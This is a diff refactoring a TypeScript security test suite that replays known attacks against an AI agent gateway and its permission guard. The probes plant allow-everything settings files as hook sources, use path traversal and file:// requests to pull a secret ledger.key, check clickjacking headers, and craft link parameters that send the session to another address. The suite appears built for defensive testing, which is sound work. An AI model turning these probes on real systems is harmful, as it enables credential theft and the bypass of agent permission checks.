@@ -1,8 +1,8 @@
 import fs from 'node:fs'
 import path from 'node:path'
 import { setTimeout as delay } from 'node:timers/promises'
-import { open, refused, type Forgery, type ForgeryReport, type Target } from '../forgery.ts'
-import { ask, fire, guardOf, harmful, json, judged, own } from '../means.ts'
+import { forging, open, refused, type Forgery, type ForgeryReport, type Target } from '../forgery.ts'
+import { ask, guardOf, harm, judged, own, post } from '../means.ts'
 
 /** These forgeries repeat published holes of other gates and agents. */
 
@@ -58,7 +58,7 @@ const writeSettings = async (target: Target): Promise<ForgeryReport> => {
     const proposals = { hooks: [guardOf(target).proposal], sources }
     fs.writeFileSync(path.join(workspace, 'config', 'shell_hooks.yaml'), JSON.stringify(proposals))
     await delay(noticedAfterMs)
-    return judged(await fire(target, harmful(guardOf(target))))
+    return judged(await harm(target))
   } finally {
     for (const file of mine) fs.rmSync(file, { force: true })
   }
@@ -75,53 +75,43 @@ const partOf = (policy: string, name: string): string =>
     .find((part) => part.startsWith(`${name} `))
     ?.slice(name.length + 1) ?? ''
 
+const guarded = forging({ needs: ['guard'] })
+const plain = forging()
+const onPage = forging({ needs: ['page'] })
+
 export const knownForgeries: readonly Forgery[] = [
-  {
-    name: 'known.settings',
-    title: 'write settings of other clients that allow everything, and name them as sources',
-    needs: ['guard'],
-    timeoutMs: 15_000,
-    attempt: writeSettings,
-  },
-  {
-    name: 'known.path',
-    title: 'have the gate send a file of its own, by its path',
-    attempt: async (target) => {
-      const key = path.join(target.home, 'secrets', 'ledger.key')
-      const files = [{ name: 'key', path: key }, { name: 'key', url: `file://${key}` }, { name: key }]
-      const pushes = files.map((file) => ({
-        channel: 'web',
-        chat_id: 'main',
-        type: 'document',
-        text: 'look',
-        files: [file],
-      }))
-      const asked = pushes.map((body) =>
-        ask(own(target), { method: 'POST', path: '/v1/push', headers: json, body: JSON.stringify(body) }),
-      )
-      const paths = ['..%2f..%2fsecrets%2fledger.key', encodeURIComponent(key)]
-      const got = paths.map((name) => ask(own(target), { path: `/v1/files/${name}` }))
-      const statuses = (await Promise.all([...asked, ...got])).map(({ status }) => status)
-      const words = `answered ${[...new Set(statuses)].join(', ')}`
-      return statuses.some((status) => status < 400) ? open(words) : refused(words)
-    },
-  },
-  {
-    name: 'known.frame',
-    title: 'show the page inside a page of its own (clickjacking)',
-    needs: ['page'],
-    attempt: async (target) => {
-      const { headers } = await ask(pageOf(target), { path: '/', headers: { 'sec-fetch-site': 'none' } })
-      const policy = String(headers['content-security-policy'])
-      const isClosed = partOf(policy, 'frame-ancestors') === "'none'" && headers['x-frame-options'] === 'DENY'
-      return isClosed ? refused('no page may frame it') : open('another page may frame it')
-    },
-  },
-  {
-    name: 'known.elsewhere',
-    title: 'make the page send its session to another address, by a parameter in its link',
-    needs: ['page'],
-    attempt: async (target) => {
+  guarded(
+    'known.settings',
+    'write settings of other clients that allow everything, and name them as sources',
+    writeSettings,
+  ),
+  plain('known.path', 'have the gate send a file of its own, by its path', async (target) => {
+    const key = path.join(target.home, 'secrets', 'ledger.key')
+    const files = [{ name: 'key', path: key }, { name: 'key', url: `file://${key}` }, { name: key }]
+    const pushes = files.map((file) => ({
+      channel: 'web',
+      chat_id: 'main',
+      type: 'document',
+      text: 'look',
+      files: [file],
+    }))
+    const asked = pushes.map((body) => post(target, '/v1/push', body))
+    const paths = ['..%2f..%2fsecrets%2fledger.key', encodeURIComponent(key)]
+    const got = paths.map((name) => ask(own(target), { path: `/v1/files/${name}` }))
+    const statuses = (await Promise.all([...asked, ...got])).map(({ status }) => status)
+    const words = `answered ${[...new Set(statuses)].join(', ')}`
+    return statuses.some((status) => status < 400) ? open(words) : refused(words)
+  }),
+  onPage('known.frame', 'show the page inside a page of its own (clickjacking)', async (target) => {
+    const { headers } = await ask(pageOf(target), { path: '/', headers: { 'sec-fetch-site': 'none' } })
+    const policy = String(headers['content-security-policy'])
+    const isClosed = partOf(policy, 'frame-ancestors') === "'none'" && headers['x-frame-options'] === 'DENY'
+    return isClosed ? refused('no page may frame it') : open('another page may frame it')
+  }),
+  onPage(
+    'known.elsewhere',
+    'make the page send its session to another address, by a parameter in its link',
+    async (target) => {
       const link = `/?gatewayUrl=ws://${elsewhere}&api=http://${elsewhere}&redirect=//${elsewhere}`
       const { headers, text } = await ask(pageOf(target), { path: link })
       const policy = String(headers['content-security-policy'])
@@ -135,5 +125,5 @@ export const knownForgeries: readonly Forgery[] = [
         ? refused('it only connects to its own address')
         : open('it may connect to another address')
     },
-  },
+  ),
 ]
